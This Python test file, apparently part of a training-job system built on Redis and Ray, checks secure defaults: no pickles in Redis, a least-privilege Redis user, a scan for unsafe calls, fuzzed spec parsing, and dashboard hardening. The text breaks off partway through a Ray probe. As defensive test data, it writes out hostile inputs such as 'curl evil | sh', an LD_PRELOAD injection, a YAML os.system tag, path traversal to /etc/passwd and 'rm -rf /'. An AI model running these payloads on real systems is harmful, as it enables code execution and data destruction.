"""Secure defaults and hostile input (SECURITY.md): what Redis holds, what a spec can carry,
what the dashboard and Ray listen on, and how bad specs, data, checkpoints and losses fail."""

from __future__ import annotations

import ast
import hashlib
import json
import os
import re
import subprocess
import sys
import time
import types
import typing
import urllib.error
import urllib.request
from collections.abc import Callable, Iterator
from io import BytesIO
from pathlib import Path
from typing import Any

import psutil
import pytest
import redis
import yaml
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st
from PIL import Image
from pydantic import BaseModel

from jobs import messages
from jobs.keys import Keys
from jobs.model_params import PARAMS_BY_MODEL
from jobs.queue import Backoff, JobQueue
from jobs.records import JobStatus
from jobs.redis_server import connect
from jobs.run_storage import RunStorage
from jobs.settings import Settings
from jobs.spec import DATASETS, JobSpec, load_spec_text, validate_spec_dict
from jobs.spec_errors import SpecError
from jobs.store import PNG_SIGNATURE, JobStore
from jobs.yaml_source import parse_yaml
from tests.ray_fixtures import Stack
from tests.redis_fixtures import RedisProcess, free_port

ROOT = Path(__file__).resolve().parents[1]
PACKAGES = ("jobs", "cluster", "dashboard", "trainers")
MINIMAL = {"model": {"type": "pixelcnn"}, "data": {"dataset": "digits"}}


def spec_of(**sections: Any) -> JobSpec:
    return validate_spec_dict({**MINIMAL, **sections})


# -- Redis holds JSON, plain text and PNG bytes: never pickles -------------------------------------


def stored_values(client: redis.Redis, prefix: str) -> Iterator[tuple[str, str, bytes]]:
    """(key, where in it, raw bytes) for every value under `prefix`, whatever its type."""
    for raw_key in client.scan_iter(match=f"{prefix}:*"):
        key, kind = raw_key.decode(), client.type(raw_key).decode()
        if kind == "string":
            yield key, "value", client.get(raw_key)
        elif kind == "list":
            yield from ((key, "item", item) for item in client.lrange(raw_key, 0, -1))
        elif kind == "hash":
            for name, value in client.hgetall(raw_key).items():
                yield key, "field name", name
                yield key, name.decode(), value
        elif kind == "zset":
            yield from ((key, "member", member) for member in client.zrange(raw_key, 0, -1))
        elif kind == "set":
            yield from ((key, "member", member) for member in client.smembers(raw_key))
        else:
            raise AssertionError(f"{key}: genfleet writes no Redis {kind}")


def value_format(raw: bytes) -> str:
    """ "png", "json" or "text"; anything else (a pickle, other binary) fails the test."""
    if raw.startswith(PNG_SIGNATURE):
        Image.open(BytesIO(raw)).verify()  # a whole, well-formed PNG, not just its signature
        return "png"
    text = raw.decode("utf-8")  # pickles (b"\x80\x04...") are not UTF-8
    try:
        json.loads(text)
    except ValueError:
        assert all(char.isprintable() or char in "\n\t" for char in text), repr(raw[:80])
        return "text"
    return "json"


def formats_by_family(client: redis.Redis, prefix: str) -> dict[str, set[str]]:
    """Key family ("job", "images", ...) -> the formats found in it, every value checked."""
    found: dict[str, set[str]] = {}
    for key, where, raw in stored_values(client, prefix):
        family = key.removeprefix(f"{prefix}:").split(":")[0]
        try:
            found.setdefault(family, set()).add(value_format(raw))
        except (AssertionError, UnicodeDecodeError, OSError) as exc:
            raise AssertionError(f"{key} {where}: not JSON, text or PNG: {raw[:40]!r}") from exc
        if holds_json_object(family, where):
            assert isinstance(json.loads(raw), dict), f"{key} {where}: {raw[:80]!r}"
    return found


def holds_json_object(family: str, where: str) -> bool:
    if family == "job":
        return where in ("spec", "result", "progress")
    return family in JSON_FAMILIES and where != "field name"


# Images too: Redis holds each one's index entry, its PNG lies in the runs' storage.
JSON_FAMILIES = ("events", "metrics", "images", "checkpoints", "trials", "dispatcher")


def test_the_format_check_catches_a_pickled_value(redis_client: redis.Redis) -> None:
    """The format check above can fail: a pickle stored under the prefix is caught."""
    import pickle  # only to make the bytes a careless writer would store

    redis_client.set("sec:job:zzz", pickle.dumps({"spec": "x"}))
    with pytest.raises(AssertionError, match=r"sec:job:zzz value: not JSON, text or PNG"):
        formats_by_family(redis_client, "sec")


def png_bytes() -> bytes:
    buffer = BytesIO()
    Image.new("L", (4, 4), color=7).save(buffer, format="PNG")
    return buffer.getvalue()


def run_job_lifecycle(client: redis.Redis, prefix: str, storage: Path) -> None:
    """Submit, claim, progress (through the dispatcher's fenced run writer), a retry, a sweep's
    trials, cancel, reject, complete, listings: every kind of write genfleet makes."""
    queue = JobQueue(client, prefix, backoff=Backoff(base_seconds=0.01, cap_seconds=0.01))
    store = JobStore(client, prefix, RunStorage(str(storage)))
    sweep_id = queue.submit(
        spec_of(kind="sweep", sweep={"space": {"train.lr": {"choice": [0.01, 0.1]}}}),
        idempotency_key="dashboard-f00d",
    )
    train_id = queue.submit(spec_of(priority=4), parent=sweep_id)
    cancelled, rejected, waiting, running = (queue.submit(spec_of(priority=0)) for _ in range(4))
    queue.cancel(cancelled)
    queue.reject(rejected, "needs 8 GPUs, the cluster has 0 GPUs")
    queue.set_pending_reason(waiting, "needs 1 CPUs, 0 free, 0 jobs ahead")

    sweep = queue.claim("host-1", lease_seconds=30)
    relayed = [
        messages.RunInfo({"model": "pixelcnn", "dims": 64}),
        messages.Worker(rank=0, pid=4242, node_id="abc", placement_group=None, trial="t_0001"),
        messages.TrialUpdate("t_0001", {"config": {"train.lr": 0.01}, "status": "ok"}),
        messages.Metrics({"epoch": 1, "val_bits_per_dim": 2.5}, trial="t_0001"),
        messages.Image("samples", 1, png_bytes(), trial="t_0001"),
        messages.Log("epoch 1\tval 2.5 [ok] {not json", trial="t_0001"),
        messages.Checkpoint(1, "/storage/x/t_0001", trial="t_0001"),
    ]
    store.write_for_run(sweep.lease, relayed)
    summary = {"best_trial": "t_0001", "best_metric": 2.5}
    assert queue.complete(sweep.lease, summary) is JobStatus.SUCCEEDED

    first = queue.claim("host-2", lease_seconds=30)
    assert first.job_id == train_id
    queue.fail(first.lease, "RuntimeError: worker lost", "Traceback (most recent...)")
    time.sleep(0.05)
    second = queue.claim("host-2", lease_seconds=30)
    assert (second.job_id, second.attempt) == (train_id, 2)
    store.append_metrics(train_id, {"epoch": 1, "val_bits_per_dim": float("nan"), "step": 9})
    store.put_image(train_id, "samples", 1, png_bytes())
    store.append_log(train_id, "resumed from /storage/x after epoch 1, step 9")
    store.add_checkpoint(train_id, 1, "/storage/x/epoch-0001")
    queue.renew_lease(second.lease, 30)
    result = {"metrics": {"val_bits_per_dim": 2.4}}
    assert queue.complete(second.lease, result) is JobStatus.SUCCEEDED
    store.append_event(train_id, "note from an operator", dispatcher_id="host-2")
    for dispatcher in ("host-2", "host-3"):
        status = {"dispatcher": dispatcher, "nodes": [], "available": {}, "running_jobs": {}}
        store.put_dispatcher_status(dispatcher, status, ttl_seconds=30)
    assert queue.claim("host-3", lease_seconds=30).job_id in (waiting, running)
    queue.retry(cancelled)
    queue.set_priority(cancelled, 9)
    assert queue.requeue_expired() == []
    # What the CLI and the dashboard read; a filtered listing writes and drops a scratch key.
    assert store.list_jobs(status="succeeded", model="pixelcnn", kind="train").total == 1
    assert store.list_jobs().total == 6 and store.counts_by_status()[JobStatus.QUEUED] == 2
    assert store.get(train_id).result == {"metrics": {"val_bits_per_dim": 2.4}}
    assert [event.status for event in store.events(cancelled)][-1] == JobStatus.QUEUED
    assert store.metrics(sweep_id, trial="t_0001") == [{"epoch": 1, "val_bits_per_dim": 2.5}]
    assert store.get_image(train_id, "samples", 1) == png_bytes()
    assert store.logs_since(sweep_id, 0) == ["[t_0001] epoch 1\tval 2.5 [ok] {not json"]
    assert [c.epoch for c in store.checkpoints(train_id)] == [1]
    assert store.trials(sweep_id)[0]["trial_id"] == "t_0001"
    assert [entry["dispatcher"] for entry in store.cluster_status()["dispatchers"]] == [
        "host-3",
        "host-2",
    ]


def test_every_value_a_job_lifecycle_writes_is_json_text_or_png(
    redis_client: redis.Redis, tmp_path: Path
) -> None:
    run_job_lifecycle(redis_client, "sec", tmp_path)

    found = formats_by_family(redis_client, "sec")

    for family in JSON_FAMILIES:
        assert found[family] <= {"json", "text"}, family  # JSON values; text only in names
    assert set(found) >= {
        "job", "events", "queue", "running", "order", "idempotency", "index", "metrics",
        "images", "logs", "log_count", "checkpoints", "trials", "dispatcher", "dispatchers",
    }  # fmt: skip
    assert "scratch" not in found


def documented_acl_rules() -> list[str]:
    """The `ACL SETUSER genfleet ...` line SECURITY.md tells operators to run, as arguments."""
    lines = (ROOT / "SECURITY.md").read_text().splitlines()
    [line] = [line.strip() for line in lines if line.strip().startswith("ACL SETUSER genfleet ")]
    return line.split()[3:]


def test_genfleet_works_as_the_least_privileged_redis_user_security_md_documents(
    redis_process: Callable[..., RedisProcess],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    server = redis_process()
    rules = [">s3cret-acl" if rule == ">CHANGE-ME" else rule for rule in documented_acl_rules()]
    server.client().execute_command("ACL", "SETUSER", "genfleet", *rules)
    monkeypatch.setenv("GENFLEET_HOME", str(tmp_path))
    monkeypatch.setenv(
        "GENFLEET_REDIS_URL", f"redis://genfleet:s3cret-acl@127.0.0.1:{server.port}/0"
    )
    client = connect(Settings.from_env())  # as the dispatcher, dashboard and CLI connect

    run_job_lifecycle(client, "genfleet", tmp_path / "storage")

    assert formats_by_family(client, "genfleet")["images"] == {"json", "text"}
    for refused in (
        ("CONFIG", "SET", "dir", "/tmp"),  # the classic way to make Redis write a file
        ("FLUSHALL",),
        ("KEYS", "*"),
        ("SET", "other-team:x", "1"),
        ("MODULE", "LIST"),
        ("ACL", "LIST"),
    ):
        with pytest.raises(redis.exceptions.NoPermissionError):
            client.execute_command(*refused)


# -- nothing read from Redis is executed or imported -----------------------------------------------

UNSAFE_MODULES = {"pickle", "_pickle", "cPickle", "marshal", "shelve", "dill", "cloudpickle"}
UNSAFE_MODULES |= {"jsonpickle", "joblib"}
UNSAFE_BUILTINS = {"eval", "exec", "compile", "__import__"}
UNSAFE_YAML = {"load", "load_all", "unsafe_load", "unsafe_load_all", "full_load", "full_load_all"}
# The model registry imports a module named in a fixed table, looked up by `model.type`,
# which the spec validates against that same table's keys.
IMPORT_MODULE_ALLOWED = {"trainers/models/__init__.py"}


def dotted_name(node: ast.expr) -> str:
    if isinstance(node, ast.Name):
        return node.id
    if isinstance(node, ast.Attribute):
        return f"{dotted_name(node.value)}.{node.attr}"
    return ""


def keyword_is(call: ast.Call, name: str, value: object) -> bool:
    return any(
        k.arg == name and isinstance(k.value, ast.Constant) and k.value.value is value
        for k in call.keywords
    )


def unsafe_uses(source: str, relative: str) -> list[str]:
    """`file:line what` for each unsafe call or import in one module's source."""
    problems = []
    for node in ast.walk(ast.parse(source, filename=relative)):
        where = f"{relative}:{getattr(node, 'lineno', 0)}"
        if isinstance(node, ast.Import | ast.ImportFrom):
            modules = (
                [alias.name for alias in node.names]
                if isinstance(node, ast.Import)
                else [node.module or ""]
            )
            for module in modules:
                if module.split(".")[0] in UNSAFE_MODULES:
                    problems.append(f"{where} imports {module}")
                if module == "importlib" and relative not in IMPORT_MODULE_ALLOWED:
                    problems.append(f"{where} imports importlib")
        if not isinstance(node, ast.Call):
            continue
        name = dotted_name(node.func)
        if name in UNSAFE_BUILTINS:
            problems.append(f"{where} calls {name}()")
        if name.startswith("yaml.") and name.split(".")[-1] in UNSAFE_YAML:
            problems.append(f"{where} calls {name}() (use the safe loader)")
        if name == "torch.load" and not keyword_is(node, "weights_only", True):
            problems.append(f"{where} calls torch.load without weights_only=True")
        if name in ("os.system", "os.popen") or keyword_is(node, "shell", True):
            problems.append(f"{where} runs a shell")
        if name == "importlib.import_module" and relative not in IMPORT_MODULE_ALLOWED:
            problems.append(f"{where} imports a module by name")
    return problems


def test_no_genfleet_code_unpickles_evaluates_or_imports_by_name_what_it_reads() -> None:
    files = [path for package in PACKAGES for path in sorted((ROOT / package).rglob("*.py"))]
    assert len(files) > 40
    problems = [
        problem
        for path in files
        for problem in unsafe_uses(path.read_text(), str(path.relative_to(ROOT)))
    ]
    assert problems == []


def test_the_scan_catches_what_it_looks_for() -> None:
    source = (
        "import pickle\nimport torch, yaml, subprocess, importlib\n"
        "pickle.loads(b'')\neval('1')\nyaml.load('a', Loader=yaml.Loader)\n"
        "torch.load('x')\nsubprocess.run('ls', shell=True)\nimportlib.import_module('os')\n"
    )
    assert sorted(unsafe_uses(source, "jobs/sample.py")) == [
        "jobs/sample.py:1 imports pickle",
        "jobs/sample.py:2 imports importlib",
        "jobs/sample.py:4 calls eval()",
        "jobs/sample.py:5 calls yaml.load() (use the safe loader)",
        "jobs/sample.py:6 calls torch.load without weights_only=True",
        "jobs/sample.py:7 runs a shell",
        "jobs/sample.py:8 imports a module by name",
    ]


def test_model_registry_imports_only_its_own_modules() -> None:
    from trainers.models import _MODULES, model_class

    expected = {name: f"trainers.models.{name}" for name in PARAMS_BY_MODEL}
    assert expected == _MODULES
    for hostile in ("os", "subprocess", "trainers.models.pixelcnn", "../x"):
        with pytest.raises(KeyError, match=r"model\.type: unknown model"):
            model_class(hostile)


def test_every_redis_client_is_made_by_connect_which_warns_when_exposed() -> None:
    """`connect` warns about a remote Redis without password or TLS; nothing may bypass it."""
    makers = []
    for package in PACKAGES:
        for path in sorted((ROOT / package).rglob("*.py")):
            for node in ast.walk(ast.parse(path.read_text())):
                name = dotted_name(node.func) if isinstance(node, ast.Call) else ""
                if name.endswith(("Redis", "Redis.from_url", "StrictRedis", "from_url")):
                    makers.append((str(path.relative_to(ROOT)), name))
    # `_client` talks to the embedded server on 127.0.0.1 with its password only.
    assert sorted(makers) == [
        ("jobs/redis_server.py", "redis.Redis"),
        ("jobs/redis_server.py", "redis.Redis.from_url"),
    ]


# -- a spec carries no code: unknown keys are errors everywhere ------------------------------------


def spec_models(model: type[BaseModel], seen: set[type[BaseModel]] | None = None) -> set[type]:
    """Every pydantic model a JobSpec can contain, through unions, lists and dicts."""
    seen = set() if seen is None else seen
    if model in seen:
        return seen
    seen.add(model)
    for field in model.model_fields.values():
        pending = [field.annotation]
        while pending:
            annotation = pending.pop()
            if isinstance(annotation, type) and issubclass(annotation, BaseModel):
                spec_models(annotation, seen)
            pending.extend(typing.get_args(annotation))
    return seen


def test_every_spec_section_forbids_unknown_keys() -> None:
    models = spec_models(JobSpec)
    assert len(models) >= 12 + len(PARAMS_BY_MODEL) - 1  # pixelrnn_row/diag share params
    assert {m.__name__: m.model_config.get("extra") for m in models} == {
        m.__name__: "forbid" for m in models
    }


def test_every_free_text_field_of_a_spec_is_pattern_checked() -> None:
    """A string a spec carries is a name, a folder or a metric, never a path, command or code."""
    unchecked = []
    for model in spec_models(JobSpec):
        validated = {
            name
            for decorator in model.__pydantic_decorators__.field_validators.values()
            for name in decorator.info.fields
        }
        for name, field in model.model_fields.items():
            if str not in _plain_types(field.annotation):
                continue
            has_pattern = any(getattr(item, "pattern", None) for item in field.metadata)
            if not has_pattern and name not in validated:
                unchecked.append(f"{model.__name__}.{name}")
    assert unchecked == []


def _plain_types(annotation: Any) -> set[Any]:
    if isinstance(annotation, types.UnionType) or typing.get_origin(annotation) is typing.Union:
        return set(typing.get_args(annotation))
    return {annotation}


@pytest.mark.parametrize(
    ("patch", "field"),
    [
        ({"runtime_env": {"pip": ["evil"], "env_vars": {"LD_PRELOAD": "/tmp/x.so"}}}, "runtime_env"),
        ({"entrypoint": "python -c 'import os; os.system(\"id\")'"}, "entrypoint"),
        ({"setup_commands": ["curl evil | sh"]}, "setup_commands"),
        ({"working_dir": "s3://bucket/code.zip"}, "working_dir"),
        ({"py_modules": ["evil"]}, "py_modules"),
        ({"model": {"type": "pixelcnn", "class_path": "os.system"}}, "model.class_path"),
        ({"model": {"type": "pixelcnn", "params": {"module": "evil"}}}, "model.params.module"),
        ({"data": {"dataset": "digits", "transform": "lambda x: __import__('os')"}}, "data.transform"),
        ({"train": {"callbacks": ["evil.Callback"]}}, "train.callbacks"),
        ({"scaling": {"runtime_env": {"pip": ["evil"]}}}, "scaling.runtime_env"),
        ({"scaling": {"resources": {"node:10.0.0.1": 1}}}, "scaling.resources"),
        ({"kind": "sweep", "sweep": {"trainable": "evil.fn", "space": {"train.lr": {"choice": [0.1]}}}}, "sweep.trainable"),
        ({"kind": "sweep", "sweep": {"space": {"train.lr": {"sample_from": "lambda spec: 1"}}}}, "sweep.space.train.lr.sample_from"),
    ],
)  # fmt: skip
def test_spec_refuses_runtime_envs_entrypoints_import_paths_and_commands(
    patch: dict, field: str
) -> None:
    text = yaml.safe_dump({**MINIMAL, **patch})
    with pytest.raises(SpecError) as caught:
        load_spec_text(text, "hostile.yaml")
    assert f"{field}: unknown key" in [f"{e.field}: {e.message}" for e in caught.value.errors]


# -- names on disk and in Redis are generated, never taken from users ------------------------------


def test_job_ids_and_key_names_are_generated_whatever_the_user_writes(
    redis_client: redis.Redis,
) -> None:
    queue, store = JobQueue(redis_client, "names"), JobStore(redis_client, "names")
    spec = spec_of(name="My run. v2")
    job_id = queue.submit(spec, idempotency_key="../../etc/passwd\n*")

    assert len(job_id) == 12 and int(job_id, 16) >= 0  # 48 random bits, hex
    key = queue.keys.idempotency("../../etc/passwd\n*")
    assert key.startswith("names:idempotency:") and len(key.rsplit(":", 1)[1]) == 64
    digest = hashlib.sha256(spec.model_dump_json().encode()).hexdigest()  # binds key to spec
    assert redis_client.get(key) == f"{job_id} {digest}".encode()
    for hostile in ("../x", "a:b", "t/1", "", "x" * 200):
        with pytest.raises(ValueError, match="trial: must match"):
            store.put_trial(job_id, hostile, {})
    for name in ("../x", "Samples", "a:b", "x" * 65):
        with pytest.raises(ValueError, match="image name: must match"):
            store.put_image(job_id, name, 1, png_bytes())
    with pytest.raises(ValueError, match="GENFLEET_PREFIX: must match"):
        Keys("genfleet:queue")


@pytest.mark.parametrize("name", ["../escape", "/abs", "a/b", "-rf", " lead", "x" * 121, ""])
def test_job_names_cannot_be_paths(name: str) -> None:
    with pytest.raises(SpecError) as caught:
        spec_of(name=name)
    assert [error.field for error in caught.value.errors] == ["name"]


# -- limits come from the environment --------------------------------------------------------------


def validate_in_subprocess(files: list[Path], **environment: str) -> tuple[int, dict]:
    env = {key: value for key, value in os.environ.items() if not key.startswith("GENFLEET_MAX_")}
    env.update(environment)
    command = [sys.executable, "-m", "cluster.cli", "validate", "--json", *map(str, files)]
    done = subprocess.run(command, env=env, capture_output=True, text=True, cwd=ROOT, timeout=60)
    try:
        return done.returncode, json.loads(done.stdout)
    except json.JSONDecodeError:
        return done.returncode, {"stderr": done.stderr}


def test_operator_limits_come_from_the_environment(tmp_path: Path) -> None:
    big = tmp_path / "big.yaml"
    big.write_text(
        yaml.safe_dump(
            {
                **MINIMAL,
                "train": {"epochs": 4, "num_samples": 9},
                "scaling": {"num_workers": 3},
            }
        )
    )
    long = tmp_path / "long.yaml"
    long.write_text("# " + "padding " * 60 + "\n" + yaml.safe_dump(MINIMAL))
    size = len(long.read_bytes())

    assert validate_in_subprocess([big, long]) == (0, {"valid": True, "errors": []})
    code, report = validate_in_subprocess(
        [big, long],
        GENFLEET_MAX_EPOCHS="3",
        GENFLEET_MAX_SAMPLES="8",
        GENFLEET_MAX_WORKERS="2",
        GENFLEET_MAX_SPEC_BYTES="400",
    )
    assert code == 1
    assert {(e["source"], e["field"], e["message"]) for e in report["errors"]} == {
        (str(big), "train.epochs", "must be <= 3 (GENFLEET_MAX_EPOCHS)"),
        (str(big), "train.num_samples", "must be <= 8 (GENFLEET_MAX_SAMPLES)"),
        (str(big), "scaling.num_workers", "must be <= 2 (GENFLEET_MAX_WORKERS)"),
        (str(long), "", f"spec is {size} bytes; the limit is 400 (GENFLEET_MAX_SPEC_BYTES)"),
    }
    for bad in ("lots", "0", "-5"):
        code, report = validate_in_subprocess([big], GENFLEET_MAX_EPOCHS=bad)
        assert code == 2
        assert report["stderr"] == (
            f"error: GENFLEET_MAX_EPOCHS: must be a positive integer, got {bad!r}\n"
        )


# -- fuzzing the path `genfleet submit` takes: load_spec_text, then JobQueue.submit ----------------

ANY_VALUE = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=10),
    lambda children: (
        st.lists(children, max_size=3) | st.dictionaries(st.text(max_size=8), children, max_size=3)
    ),
    max_leaves=8,
)
EDGES = [float("inf"), float("-inf"), float("nan"), 2**63, -(2**63) - 1, 2**70, 0, -1, 1e-320]
NUMBER = st.sampled_from(EDGES) | st.integers() | st.floats(allow_nan=True, allow_infinity=True)
DOMAIN = st.one_of(
    st.builds(lambda values: {"choice": values}, st.lists(NUMBER | st.none(), max_size=4)),
    st.builds(lambda values: {"grid": values}, st.lists(NUMBER, max_size=4)),
    st.builds(lambda low, high: {"uniform": [low, high]}, NUMBER, NUMBER),
    st.builds(lambda low, high: {"loguniform": [low, high]}, NUMBER, NUMBER),
    st.builds(lambda low, high: {"randint": [low, high]}, st.integers(-5, 5), st.integers()),
    ANY_VALUE,
)
PLAUSIBLE = {
    "name": st.sampled_from(["job", "My run. v2", "a_1-b", "../x", "", "x" * 121, "rm -rf /"]),
    "kind": st.sampled_from(["train", "sweep", "shell"]),
    "priority": st.integers(-1, 10),
    "max_attempts": st.integers(0, 101),
    "model.type": st.sampled_from([*PARAMS_BY_MODEL, "os.system"]),
    "model.params.layers": st.integers(0, 65),
    "model.params.latent_dim": st.integers(0, 1025),
    "model.params.dropout": st.floats(0, 0.99) | NUMBER,
    "data.dataset": st.sampled_from([*DATASETS, "imagenet"]),
    "data.root": st.sampled_from(["pets", "a/b", "../etc", "/etc", "a\\b", "x/../../y", "."]),
    "data.val_fraction": st.floats(0.01, 0.99) | NUMBER,
    "train.epochs": st.integers(-1, 20_000),
    "train.lr": st.floats(1e-6, 10) | NUMBER,
    "train.optimizer": st.sampled_from(["adam", "sgd", "lbfgs"]),
    "train.grad_clip": st.floats(0.1, 1e6) | NUMBER | st.none(),
    "train.precision": st.sampled_from(["fp32", "bf16"]),
    "train.num_samples": st.integers(0, 2_000),
    "train.max_steps_per_epoch": st.integers(-1, 2**64) | st.none(),
    "scaling.num_workers": st.integers(0, 300),
    "scaling.use_gpu": st.booleans(),
    "scaling.gpus_per_worker": st.floats(0.1, 16) | NUMBER,
    "sweep.metric": st.sampled_from(["val_bits_per_dim", "val_fcd", "os.system('id')"]),
    "sweep.search": st.sampled_from(["random", "grid", "optuna", "bash"]),
    "sweep.space": st.dictionaries(
        st.sampled_from(["train.lr", "train.grad_clip", "model.params.layers", "name", "x.y"]),
        DOMAIN,
        max_size=3,
    ),
    "runtime_env": st.just({"pip": ["evil"]}),
    "train.callbacks": st.just(["evil.Callback"]),
}
SNIPPETS = st.sampled_from(
    ["!!python/object/apply:os.system ['id']", "&a [1]", "*a", "\t", "{", "]", ": ", "- ", "%"]
) | st.text(max_size=6)


def set_path(data: dict, path: str, value: Any) -> None:
    *parents, last = path.split(".")
    for part in parents:
        child = data.get(part)
        data[part] = child = child if isinstance(child, dict) else {}
        data = child
    data[last] = value


@st.composite
def spec_texts(draw: st.DrawFn) -> str:
    """YAML of a spec near validity: a few fields set to plausible, wild or hostile values;
    sometimes with a snippet pasted into the text."""
    data: dict[str, Any] = {"model": {"type": "pixelcnn"}, "data": {"dataset": "digits"}}
    if draw(st.booleans()):
        data["kind"] = "sweep"
        data["sweep"] = {"space": {"train.lr": {"choice": [0.01, 0.1]}}}
    for path in draw(st.lists(st.sampled_from(sorted(PLAUSIBLE)), max_size=4, unique=True)):
        wild = draw(st.integers(0, 5)) == 0  # mostly plausible values, so many specs pass
        set_path(data, path, draw(ANY_VALUE if wild else PLAUSIBLE[path]))
    text = yaml.safe_dump(data, sort_keys=draw(st.booleans()))
    if draw(st.integers(0, 7)) == 0:
        at = draw(st.integers(0, len(text)))
        text = text[:at] + draw(SNIPPETS) + text[at:]
    return text


DOCUMENT_PROBLEMS = (
    "invalid YAML: ",
    "empty document",
    "a spec must be a mapping",
    "spec is ",
    "not UTF-8 text",
)


def submit_like_the_cli(queue: JobQueue, store: JobStore, text: str | bytes) -> JobSpec | None:
    """What `genfleet submit` does, checking the invariants: an error names its field (or is a
    document-level problem), nothing invalid is queued, and whatever is queued reads back."""
    queued_before = queue.redis.zcard(queue.keys.queue)
    try:
        spec = load_spec_text(text, "fuzz.yaml")
    except SpecError as exc:
        assert exc.errors
        written = _top_level_keys(text)
        for error in exc.errors:
            assert error.message
            if error.field:  # a path into the spec: from a field of it or a key written
                tops = {*JobSpec.model_fields, *written}
                named = any(error.field == top or error.field.startswith(f"{top}.") for top in tops)
                assert named, (str(error), text)
            else:
                assert error.message.startswith(DOCUMENT_PROBLEMS), (str(error), text)
        assert queue.redis.zcard(queue.keys.queue) == queued_before
        return None
    job_id = queue.submit(spec)
    assert queue.redis.zcard(queue.keys.queue) == queued_before + 1
    assert store.get(job_id).job_spec() == spec  # what a dispatcher's claim reads back
    return spec


def _top_level_keys(text: str | bytes) -> set[str]:
    try:
        data, _ = parse_yaml(text)
    except SpecError:
        return set()
    return {str(key) for key in data} if isinstance(data, dict) else set()


def fuzz_settings(examples: int) -> settings:
    # One Redis for every example: each checks what its own submit changed.
    return settings(
        max_examples=examples,
        deadline=None,
        suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
    )


@fuzz_settings(1000)
@given(text=spec_texts())
def test_fuzzed_spec_yaml_through_submit_never_crashes_or_queues_garbage(
    redis_client: redis.Redis, text: str
) -> None:
    queue, store = JobQueue(redis_client, "fuzz"), JobStore(redis_client, "fuzz")
    spec = submit_like_the_cli(queue, store, text)
    event("queued" if spec is not None else "rejected")  # --hypothesis-show-statistics


@fuzz_settings(300)
@given(raw=st.binary(max_size=300) | st.text(max_size=300))
def test_fuzzed_raw_bytes_and_text_through_submit_never_crash(
    redis_client: redis.Redis, raw: str | bytes
) -> None:
    queue, store = JobQueue(redis_client, "fuzz"), JobStore(redis_client, "fuzz")
    submit_like_the_cli(queue, store, raw)


def test_the_fuzz_target_queues_valid_specs_and_names_bad_fields(redis_client: redis.Redis) -> None:
    queue, store = JobQueue(redis_client, "fuzz"), JobStore(redis_client, "fuzz")
    assert submit_like_the_cli(queue, store, yaml.safe_dump(MINIMAL)) == spec_of()
    bad = yaml.safe_dump({**MINIMAL, "train": {"lr": float("inf")}, "hack": 1})
    assert submit_like_the_cli(queue, store, bad) is None
    assert queue.redis.zcard(queue.keys.queue) == 1


# -- a corrupt checkpoint --------------------------------------------------------------------------


def test_run_local_resume_from_a_corrupt_checkpoint_fails_naming_the_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    from cluster.cli import main

    spec = tmp_path / "tiny.yaml"
    spec.write_text(
        yaml.safe_dump(
            {
                **MINIMAL,
                "name": "tiny",
                "model": {"type": "pixelcnn", "params": {"layers": 1, "channels": 4}},
                "train": {"epochs": 1, "max_steps_per_epoch": 1, "num_samples": 4},
            }
        )
    )
    corrupt = tmp_path / "epoch-0001"
    corrupt.mkdir()
    (corrupt / "training_state.pt").write_bytes(b"PK\x03\x04 truncated zip, not a checkpoint")
    monkeypatch.setenv("GENFLEET_HOME", str(tmp_path / "home"))
    out = tmp_path / "out"

    code = main(
        ["run-local", str(spec), "--out", str(out), "--resume", str(corrupt), "--no-progress"]
    )

    assert code == 1
    error = capsys.readouterr().err
    assert f"checkpoint: cannot read {corrupt / 'training_state.pt'}" in " ".join(error.split())
    assert "Traceback" not in error
    assert not (out / "checkpoints").exists()  # nothing trained on top of a bad resume


# -- the dashboard: XSRF on, loopback only, the password never in argv -----------------------------


@pytest.fixture
def dashboard_process(tmp_path: Path, redis_server: Any) -> Iterator[tuple[Any, int]]:
    from dashboard.launch import launch_dashboard

    port = free_port()
    env = {"GENFLEET_HOME": str(tmp_path), "GENFLEET_REDIS_URL": redis_server.url}
    process = launch_dashboard("127.0.0.1", port, "s3cret-dashboard-pass", extra_env=env)
    try:
        deadline = time.monotonic() + 90
        while http_status("GET", f"http://127.0.0.1:{port}/_stcore/health") != 200:
            assert process.poll() is None, "streamlit exited"
            assert time.monotonic() < deadline, "streamlit did not answer"
            time.sleep(0.25)
        yield process, port
    finally:
        process.terminate()
        process.wait(timeout=30)


def http_status(method: str, url: str, body: bytes | None = None, **headers: str) -> int:
    request = urllib.request.Request(url, data=body, method=method, headers=headers)
    try:
        with urllib.request.urlopen(request, timeout=10) as response:
            return response.status
    except urllib.error.HTTPError as error:
        return error.code
    except OSError:
        return 0


def test_dashboard_refuses_cross_site_uploads_and_listens_on_loopback_only(
    dashboard_process: tuple[Any, int],
) -> None:
    process, port = dashboard_process
    upload = f"http://127.0.0.1:{port}/_stcore/upload_file/some-session/some-file"

    # With XSRF protection off, Streamlit would go on to say the session is unknown (400).
    assert http_status("PUT", upload, b"name: x", **{"Content-Type": "text/yaml"}) == 403
    forged = {"X-Xsrftoken": "2|00|00|00", "Cookie": "_streamlit_xsrf=2|11|11|11"}
    assert http_status("PUT", upload, b"name: x", **forged) == 403
    listening = {
        (conn.laddr.ip, conn.laddr.port)
        for conn in psutil.Process(process.pid).net_connections(kind="inet")
        if conn.status == psutil.CONN_LISTEN
    }
    assert listening == {("127.0.0.1", port)}
    assert "s3cret-dashboard-pass" not in " ".join(process.args)


def test_dashboard_command_turns_on_xsrf_and_caps_uploads() -> None:
    from dashboard.launch import streamlit_command

    command = streamlit_command("127.0.0.1", 8501)
    flags = dict(zip(command[5::2], command[6::2], strict=True))
    assert flags["--server.enableXsrfProtection"] == "true"
    assert flags["--server.maxUploadSize"] == "1"  # MB; a spec is at most 64 KiB
    assert flags["--server.address"] == "127.0.0.1"


# -- Ray: token authentication on, dashboard and job API on loopback -------------------------------

RAY_DEFAULTS_PROBE = """
import json, urllib.error, urllib.request
import psutil, ray
from ray._private.authentication.authentication_utils import is_token_auth_enabled
from ray._raylet import AuthenticationTokenLoader
from cluster.ray_runtime import connect_ray

url = connect_ray(None)
port = int(url.rsplit(":", 1)[1])
listening = sorted({
    conn.laddr.ip
    for child in psutil.Process().children(recursive=True)
    for conn in child.net_connections(kind="inet")
